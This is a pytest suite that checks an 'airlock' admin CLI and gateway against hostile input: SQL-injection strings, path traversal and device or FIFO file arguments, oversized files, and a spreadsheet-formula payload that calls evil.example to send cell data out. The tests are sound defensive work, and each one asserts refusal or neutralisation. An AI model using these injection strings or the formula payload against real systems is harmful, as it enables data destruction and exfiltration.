"""Issue #9, hostile input through the admin CLI: SQL-injection strings through every
`airlock audit search|export|report` filter and the tenant/key/policy commands, and awkward
file arguments (traversal, devices, directories, FIFOs, huge files). Every command either
does exactly what it says or fails with a one-line message and a non-zero exit; no command
hangs, dumps a file's contents or changes anything it should not."""
from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest

from conftest import REPO, airlock_binary, airlock_cli, new_tenant

INJECTIONS = [
    "' OR '1'='1",
    "x'; DROP TABLE audit_events; --",
    "\" OR 1=1 --",
    "x') UNION SELECT tenant_id FROM api_keys --",
    "%' OR tenant_id LIKE '%",
    "x\\'; SELECT pg_sleep(5); --",
    "$1",
]


def run(database_url: str, *args: str, timeout: float = 60, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AIRLOCK_")}
    env["AIRLOCK_DATABASE_URL"] = database_url
    return subprocess.run([airlock_binary(), *args], env=env, capture_output=True, text=True, timeout=timeout, cwd=REPO,
                          input=stdin)


def one_line_error(result: subprocess.CompletedProcess) -> None:
    """Non-zero exit, a short message (ArgumentParser adds usage lines), never a trap."""
    assert result.returncode != 0
    lines = [l for l in result.stderr.strip().splitlines() if l.strip()]
    assert 1 <= len(lines) <= 6, result.stderr
    assert "Fatal error" not in result.stderr and "Stack dump" not in result.stderr


@pytest.fixture(scope="module")
def audited(database_url, gateway):
    """A tenant with a few audited calls, to prove the injections neither leak nor delete them."""
    import httpx
    tenant, key = new_tenant(database_url, "inj")
    for _ in range(3):
        httpx.post(gateway.base_url + "/v1/chat/completions", headers={"authorization": f"Bearer {key}"}, timeout=10,
                   json={"model": "mock-chat", "messages": [{"role": "user", "content": "hello"}]})
    time.sleep(1.0)
    return tenant


def total_rows(database_url: str) -> int:
    out = airlock_cli(database_url, "audit", "report", "--json").stdout
    return json.loads(out)["total_calls"] if "total_calls" in out else len(out)


@pytest.mark.parametrize("flag", ["--tenant", "--model", "--provider", "--region", "--entity-type"])
def test_sql_injection_through_audit_filters_matches_nothing(database_url, audited, flag):
    mine = airlock_cli(database_url, "audit", "search", "--tenant", audited, "--json", "--limit", "100").stdout
    assert len([l for l in mine.splitlines() if l.strip()]) >= 3
    for value in INJECTIONS:
        started = time.monotonic()
        for command in (["audit", "search", "--json", "--limit", "1000"], ["audit", "export"], ["audit", "report", "--json"]):
            result = run(database_url, *command, flag, value)
            assert result.returncode == 0, f"{command} {flag} {value!r}: {result.stderr}"
            if command[1] in ("search", "export"):
                assert result.stdout.strip() == "", f"{command} {flag} {value!r} matched rows:\n{result.stdout[:500]}"
            else:
                assert json.loads(result.stdout)["total_calls"] == 0
        assert time.monotonic() - started < 20, "pg_sleep ran"
    after = airlock_cli(database_url, "audit", "search", "--tenant", audited, "--json", "--limit", "100").stdout
    assert after == mine  # nothing deleted or changed
    assert airlock_cli(database_url, "audit", "verify").returncode == 0


@pytest.mark.parametrize("flag,value", [("--decision", "allowed' OR '1'='1"), ("--from", "2026-01-01' OR '1'='1"),
                                        ("--to", "now(); DROP TABLE tenants"), ("--limit", "1; DROP TABLE tenants")])
def test_validated_filters_refuse_injection(database_url, audited, flag, value):
    one_line_error(run(database_url, "audit", "search", flag, value))


@pytest.mark.parametrize("name", INJECTIONS[:5] + ["../../etc/passwd", "a" * 300, "tenant\nwith-newline"])
def test_injection_in_tenant_and_key_commands(database_url, name):
    before = airlock_cli(database_url, "tenant", "list", "--json").stdout
    create = run(database_url, "tenant", "create", name, "--name", name)
    one_line_error(create)  # ids are slugs
    assert airlock_cli(database_url, "tenant", "list", "--json").stdout == before
    one_line_error(run(database_url, "key", "create", "--tenant", name))
    one_line_error(run(database_url, "key", "revoke", name))
    listed = run(database_url, "key", "list", "--tenant", name, "--json")
    assert listed.returncode != 0 or json.loads(listed.stdout or "[]") == []


def test_display_names_are_stored_verbatim_not_executed(database_url):
    tenant = f"inj-name-{time.time_ns() % 10**8}"
    evil = "Robert'); DROP TABLE tenants; -- <script>alert(1)</script>"
    airlock_cli(database_url, "tenant", "create", tenant, "--name", evil)
    rows = json.loads(airlock_cli(database_url, "tenant", "list", "--json").stdout)
    assert any(r.get("name") == evil for r in rows), rows[:3]


# --- file arguments --------------------------------------------------------------------------

SECRET_LINE = "root:$6$SECRETHASHVALUE$abcdef:19000:0:99999:7:::"


@pytest.fixture
def secret_file(tmp_path) -> Path:
    p = tmp_path / "shadow"
    p.write_text(SECRET_LINE + "\n")
    return p


def file_commands(path: str) -> list[list[str]]:
    return [["policy", "validate", path], ["policy", "apply", "--tenant", "default", path], ["provider", "import", path],
            ["policy", "evaluate", "--policy", path, "--finding", "EMAIL_ADDRESS"]]


def test_traversal_paths_fail_cleanly(database_url, secret_file, tmp_path):
    """The CLI reads files with its invoker's rights, so a traversal reaches nothing the
    invoker could not read anyway; a file that is not a policy is refused cleanly. (Validation
    problems quote the offending key, so a stray file's first key may be shown.)"""
    traversal = str(tmp_path / "a" / ".." / ".." / tmp_path.name / "shadow")
    for path in (str(secret_file), traversal):
        for command in file_commands(path):
            one_line_error(run(database_url, *command))
    # Nothing was applied to the tenant.
    assert "SECRETHASHVALUE" not in run(database_url, "policy", "list", "--tenant", "default").stdout


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/urandom", "/", "/nonexistent/dir/../x.yaml", "/proc/self/mem"])
def test_device_and_directory_arguments_fail_fast(database_url, path):
    for command in file_commands(path)[:3]:
        started = time.monotonic()
        result = run(database_url, *command, timeout=30)
        one_line_error(result)
        assert time.monotonic() - started < 15, f"{command} took too long"


def test_fifo_argument_does_not_hang(database_url, tmp_path):
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    for command in file_commands(str(fifo))[:3]:
        started = time.monotonic()
        try:
            result = run(database_url, *command, timeout=20)
        except subprocess.TimeoutExpired:
            pytest.fail(f"{command} blocked on a FIFO")
        one_line_error(result)
        assert time.monotonic() - started < 15


def test_huge_policy_file_is_refused(database_url, tmp_path):
    big = tmp_path / "big.yaml"
    with open(big, "w") as f:
        f.write("apiVersion: airlock/v1\nkind: Policy\nname: big\ndescription: ")
        f.write("x" * (64 << 20))
    started = time.monotonic()
    one_line_error(run(database_url, "policy", "validate", str(big), timeout=60))
    assert time.monotonic() - started < 30


def test_csv_export_neutralises_spreadsheet_formulas(database_url, gateway):
    """Model names and request ids are chosen by API clients and land in the audit export;
    opened in a spreadsheet, a cell starting with '=' would run as a formula."""
    import csv
    import io
    import httpx
    tenant, key = new_tenant(database_url, "csv")
    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    r = httpx.post(gateway.base_url + "/v1/chat/completions", headers={"authorization": f"Bearer {key}"}, timeout=10,
                   json={"model": formula, "messages": [{"role": "user", "content": "x"}]})
    assert r.status_code == 404
    time.sleep(1.0)
    out = airlock_cli(database_url, "audit", "export", "--tenant", tenant, "--format", "csv").stdout
    rows = [row for row in csv.DictReader(io.StringIO(out)) if row["kind"] == "request"]
    assert rows and rows[0]["requested_model"] == "'" + formula, rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


def test_scan_bench_request_stages(tmp_path):
    """`airlock scan bench --request-only` times the personal-data call's stages, and a request
    file it cannot read or parse is a one-line error, not a report of nothing."""
    ok = run("", "scan", "bench", "--request-only", timeout=120)
    assert ok.returncode == 0, ok.stderr
    stages = json.loads(ok.stdout)["chat_request"]
    assert stages["findings"] == 25 and stages["us_before_sending"] > 0
    one_line_error(run("", "scan", "bench", "--request-only", "--request", str(tmp_path / "missing.json")))
    bad = tmp_path / "bad.json"
    bad.write_text("not json")
    one_line_error(run("", "scan", "bench", "--request-only", "--request", str(bad)))
